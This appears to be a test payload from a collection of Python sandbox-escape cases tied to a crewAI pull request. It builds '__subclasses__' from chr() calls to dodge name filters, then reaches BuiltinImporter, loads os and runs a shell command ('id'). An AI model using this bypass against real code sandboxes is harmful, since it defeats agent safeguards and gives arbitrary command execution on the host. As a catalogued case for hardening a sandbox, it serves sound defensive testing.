# Source: https://github.com/crewAIInc/crewAI/pull/4643 (type.__dict__ + chr builds restricted names)
# Family: attr-in-string
# What: builds '__subclasses__' with chr() and looks it up in type.__dict__
name = chr(95) * 2 + "subclasses" + chr(95) * 2
subs = type.__dict__[name](object)
print([c for c in subs if c.__name__ == "BuiltinImporter"][0].load_module("os").system("id"))
